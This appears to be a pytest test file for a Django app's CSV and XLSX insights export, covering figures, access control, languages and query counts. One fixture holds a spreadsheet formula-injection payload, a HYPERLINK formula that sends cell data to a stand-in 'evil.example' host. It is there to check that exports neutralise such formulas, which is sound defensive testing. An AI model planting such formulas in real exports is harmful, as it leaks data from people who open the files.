"""The insights as CSV and XLSX: the API's figures, numbers as numbers, text that cannot run as a
formula, for the organisation's members only."""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from seat.accounts.enums import Role
from seat.insights.exports import HEADER, figure_rows
from seat.tests.personas import make_consultation, make_member, make_org

pytestmark = pytest.mark.django_db

PERIOD = "start=2026-01-01&end=2026-12-31"


def export_url(organisation_id, kind: str, query: str = PERIOD) -> str:
    return f"/insights/{organisation_id}/export/insights.{kind}" + (f"?{query}" if query else "")


def api_body(client, organisation_id, query: str = PERIOD) -> dict:
    return client.get(f"/api/v1/organisations/{organisation_id}/insights?{query}").json()


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8"))))


def sheet_rows(response) -> list[tuple]:
    book = load_workbook(io.BytesIO(response.content))
    return list(book["insights"].iter_rows(values_only=True))


@pytest.fixture
def opened_over_blockers(world):
    """A consultation whose title is a formula, opened by an admin over the check's blockers."""
    from seat.consultations.models import Consultation

    consultation = make_consultation(
        world.staff_a,
        world.project,
        override_by=world.admin_a,
        title='=HYPERLINK("http://evil.example/?"&A1,"Click")',
        pay_rate=Decimal("0"),
    )
    # Inside the period the tests ask for, whatever day they run.
    Consultation.objects.filter(project__organisation=world.org_a).update(
        opens_on=datetime.date(2026, 3, 1), deadline=datetime.date(2026, 3, 31)
    )
    return consultation


def test_the_csv_has_one_row_per_figure_with_the_apis_figures(client, world):
    client.force_login(world.staff_a)
    response = client.get(export_url(world.org_a.pk, "csv"))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        'attachment; filename="insights-organisation-2026-01-01-2026-12-31.csv"'
    )
    rows = csv_rows(response)
    assert rows[0] == ["Metric", "Figure", "Value", "Part", "Whole", "Definition"]
    body = api_body(client, world.org_a.pk)
    expected = list(figure_rows(body))
    assert len(rows) == len(expected) + 1
    by_label = {(row[0], row[1]): row for row in rows[1:]}
    design = body["stage_coverage"]["stages"]["design"]
    assert by_label[("Stage coverage", "Design")][2:5] == [
        "" if design["percent"] is None else str(design["percent"]),
        str(design["part"]),
        str(design["whole"]),
    ]
    assert by_label[("Period", "From")][2] == "2026-01-01"
    assert by_label[("Engagement ladder", "Rung")][2] == body["ladder"]["rung_label"]
    assert by_label[("Lead time", "Median days")][5] == body["definitions"]["lead_time"]


def test_the_xlsx_opens_and_holds_the_same_figures_as_numbers(client, world):
    from seat.accountability.services import response_record

    response_record(
        actor=world.staff_a, contribution=world.contribution, outcome="adopted", reason="Yes."
    )
    client.force_login(world.viewer_a)
    query = ""  # the default period: the 12 months to today
    response = client.get(export_url(world.org_a.pk, "xlsx", query))
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="insights-')
    rows = sheet_rows(response)
    assert list(rows[0]) == [str(name) for name in HEADER]
    body = api_body(client, world.org_a.pk, query)
    expected = list(figure_rows(body))
    assert len(rows) == len(expected) + 1
    for row, figure in zip(rows[1:], expected, strict=True):
        value, part, whole = row[2:5]
        if isinstance(figure.value, int | Decimal) and not isinstance(figure.value, bool):
            assert value == figure.value  # a number, not text
            assert isinstance(value, int | float)
        assert part == figure.part
        assert whole == figure.whole
    adopted = next(r for r in rows if r[1] == "Input adopted (%)")
    assert adopted[2:5] == (100, 1, 1)
    lead = next(r for r in rows if r[0] == "Lead time" and r[1] == "Median days")
    assert lead[2] == 21


def test_a_formula_in_a_title_or_reason_is_plain_text(client, world, opened_over_blockers):
    client.force_login(world.staff_a)
    rows = csv_rows(client.get(export_url(world.org_a.pk, "csv")))
    (override,) = [r for r in rows if r[0] == "Quality check overrides" and "HYPERLINK" in r[1]]
    assert override[1] == "'" + opened_over_blockers.title
    count = next(r for r in rows if r[0] == "Quality check overrides" and r[1] == "Consultations")
    assert count[2] == "1"
    sheet = sheet_rows(client.get(export_url(world.org_a.pk, "xlsx")))
    (cell,) = [r[1] for r in sheet if r[1] and "HYPERLINK" in str(r[1])]
    assert cell == "'" + opened_over_blockers.title
    for row in sheet:
        for value in row:
            assert not (isinstance(value, str) and value.lstrip().startswith("="))


def test_ladder_tests_say_passed_or_what_would_pass(client, world):
    client.force_login(world.staff_a)
    rows = csv_rows(client.get(export_url(world.org_a.pk, "csv")))
    body = api_body(client, world.org_a.pk)
    ladder = [r for r in rows if r[0] == "Engagement ladder" and r[1] != "Rung"]
    assert [r[1] for r in ladder] == [test["asks"] for test in body["ladder"]["tests"]]
    for row, test in zip(ladder, body["ladder"]["tests"], strict=True):
        if test["passed"]:
            assert row[5] == "Passed."
        else:
            assert row[5].startswith("Not passed. To pass: ")


def test_the_query_string_narrows_the_file_as_it_does_the_api(client, world):
    client.force_login(world.staff_a)
    response = client.get(
        export_url(world.org_a.pk, "csv", f"{PERIOD}&consultation={world.consultation.pk}")
    )
    assert response.status_code == 200
    assert "insights-consultation-2026-01-01-2026-12-31.csv" in response["Content-Disposition"]


def test_a_backwards_period_is_400_with_the_reason(client, world):
    client.force_login(world.staff_a)
    response = client.get(export_url(world.org_a.pk, "csv", "start=2026-06-30&end=2026-01-01"))
    assert response.status_code == 400
    assert response.content.decode() == "The period ends before it starts.\n"


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_outside_the_organisation_it_is_not_there(client, world, kind):
    for user in (world.staff_b, world.expert.user):
        client.force_login(user)
        assert client.get(export_url(world.org_a.pk, kind)).status_code == 404
    client.force_login(world.staff_a)
    assert client.get(export_url(world.org_b.pk, kind)).status_code == 404
    other_project = f"{PERIOD}&project={world.project_b.pk}"
    assert client.get(export_url(world.org_a.pk, kind, other_project)).status_code == 404


def test_an_unknown_format_is_404_and_anonymous_goes_to_login(client, world):
    response = client.get(export_url(world.org_a.pk, "csv"))
    assert response.status_code == 302
    assert response["Location"].startswith("/accounts/login/")
    client.force_login(world.staff_a)
    assert client.get(export_url(world.org_a.pk, "pdf")).status_code == 404


def test_an_empty_organisation_exports_no_data_yet(client, db):
    empty = make_org("Nothing yet")
    client.force_login(make_member("staff-empty", empty, Role.STAFF))
    rows = csv_rows(client.get(export_url(empty.pk, "csv")))
    early = next(r for r in rows if r[0] == "Early input")
    assert early[2:5] == ["", "0", "0"]
    (diversity,) = [r for r in rows if r[0] == "Diversity"]
    assert diversity[1:3] == ["People who gave input", ""]
    assert diversity[5].startswith("Too few people to show this safely.")
    assert [r[2] for r in rows if r[0] == "Self-assessment"] == ["No data yet", "No data yet"]
    assert load_workbook(io.BytesIO(client.get(export_url(empty.pk, "xlsx")).content))


def test_an_end_in_the_year_1_is_400_not_a_server_error(client, world):
    client.force_login(world.staff_a)
    response = client.get(export_url(world.org_a.pk, "xlsx", "end=0001-01-05"))
    assert response.status_code == 400
    assert response.content.decode() == "Choose a period after 2000.\n"


def test_headers_and_words_come_in_the_readers_language(client, world):
    client.force_login(world.staff_a)
    response = client.get(export_url(world.org_a.pk, "csv"), HTTP_ACCEPT_LANGUAGE="es")
    rows = csv_rows(response)
    assert rows[0] == ["Indicador", "Dato", "Valor", "Parte", "Total", "Definición"]
    assert ["Periodo", "Desde", "2026-01-01"] in [row[:3] for row in rows]


def test_the_query_count_does_not_grow_with_the_input(client, world):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from seat.tests.personas import make_contribution, make_expert, make_invitation

    client.force_login(world.staff_a)

    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            assert client.get(export_url(world.org_a.pk, "xlsx", "")).status_code == 200
        return len(captured.captured_queries)

    queries()  # the session's first request writes what later ones only read
    one = queries()
    for n in range(5):
        person = make_expert(f"more-{n}", f"More {n}")
        make_contribution(make_invitation(world.staff_a, world.consultation, person, accept=True))
    queries()  # the first read after new input computes its consultation's summary again
    assert queries() == one
